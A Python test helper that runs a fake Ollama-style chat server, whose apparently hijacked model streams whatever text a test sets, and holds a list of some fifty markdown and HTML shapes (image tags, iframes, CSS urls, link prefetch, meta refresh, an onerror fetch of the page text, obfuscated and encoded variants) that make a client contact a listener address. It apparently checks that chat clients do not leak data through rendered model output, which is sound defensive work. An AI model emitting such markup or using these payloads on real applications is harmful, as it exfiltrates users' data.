"""A language model's server that says what a test has it say, as Ollama would; and ways to smuggle an address out."""

import json
from dataclasses import dataclass, field

from faults import NDJSON, SHOW
from loopback import Connection, Server, chunk

NAME = "hijacked:1b"


@dataclass
class Hijacked(Server):
    """Says `text` to every question."""

    handler: object = None
    text: str = "Nothing was said [P1]."
    said: list[str] = field(default_factory=list)

    def __post_init__(self):
        self.handler = self._say
        super().__post_init__()

    def _say(self, connection: Connection) -> None:
        path = connection.request.path
        if path == "/api/chat":
            connection.send(NDJSON)
            for line in self._lines():
                connection.send(chunk(json.dumps({"model": NAME} | line).encode() + b"\n"))
            connection.send(chunk(b""))
            self.said.append(self.text)
        elif path == "/api/show":
            connection.answer("200 OK", SHOW)
        else:
            listed = {"name": NAME, "model": NAME, "size": 1, "details": {}}
            connection.answer("200 OK", json.dumps({"models": [listed]}).encode())

    def _lines(self):
        for start in range(0, len(self.text), 9):
            yield {"message": {"role": "assistant", "content": self.text[start : start + 9]}, "done": False}
        empty = {"role": "assistant", "content": ""}
        yield {"message": empty, "done": True, "done_reason": "stop", "prompt_eval_count": 1_500, "eval_count": 9}


# ~ is the address of the one who listens, ^ its host and port.
_SHAPES = """
![x](~?q=secret)
![x][leak]
[click](~?q=secret)
[![x](~)](~)
<~?q=secret>
~?q=secret
^/?q=secret
www.^/?q=secret
<img src="~">
<img src=~ alt=x>
<img srcset="~ 1x, ~/2 2x">
<picture><source srcset="~"><img></picture>
<a href="~" ping="~">here</a>
<iframe src="~"></iframe>
<iframe srcdoc="<img src=~>"></iframe>
<object data="~"></object>
<embed src="~">
<video src="~" poster="~" autoplay></video>
<audio src="~" autoplay></audio>
<track src="~">
<input type="image" src="~">
<form action="~"><button>Send</button></form>
<button formaction="~">Send</button>
<body background="~">
<table background="~"><tr><td>x</td></tr></table>
<style>@import "~";</style>
<style>body { background: url(~) }</style>
<p style="background-image: url('~')">x</p>
<p style="list-style: url(~); cursor: url(~), auto">x</p>
<link rel="stylesheet" href="~">
<link rel="prefetch" href="~"><link rel="preload" as="image" href="~">
<link rel="dns-prefetch" href="~"><link rel="preconnect" href="~">
<meta http-equiv="refresh" content="0;url=~">
<base href="~/"><img src="x.png">
<svg><image href="~" xlink:href="~"/></svg>
<svg><use href="~#x"/><feImage href="~"/></svg>
<script src="~"></script><script>fetch("~")</script>
<img src=x onerror="fetch('~?'+document.body.innerText)">
data:text/html,<img src="~">
![x](data:image/svg+xml,%3Csvg%20xmlns='http://www.w3.org/2000/svg'%3E%3Cimage%20href='~'/%3E%3C/svg%3E)
javascript:fetch('~')
${fetch('~')} {{constructor.constructor("fetch('~')")()}}
s\u200be\u200bc\u200br\u200be\u200bt <img\u200b src="~">
\u202e<img src="~">\u202c
&lt;img src="~"&gt; &#60;img src="~"&#62;
%3Cimg%20src=%22~%22%3E
```html <img src="~"> ```
<math href="~"><mi>x</mi></math>
"""


def shapes(place: str) -> list[str]:
    """Every way, to an address such as http://127.0.0.1:8000."""
    host = place.removeprefix("http://")
    return [shape.replace("~", f"{place}/x").replace("^", host) for shape in _SHAPES.strip().splitlines()]
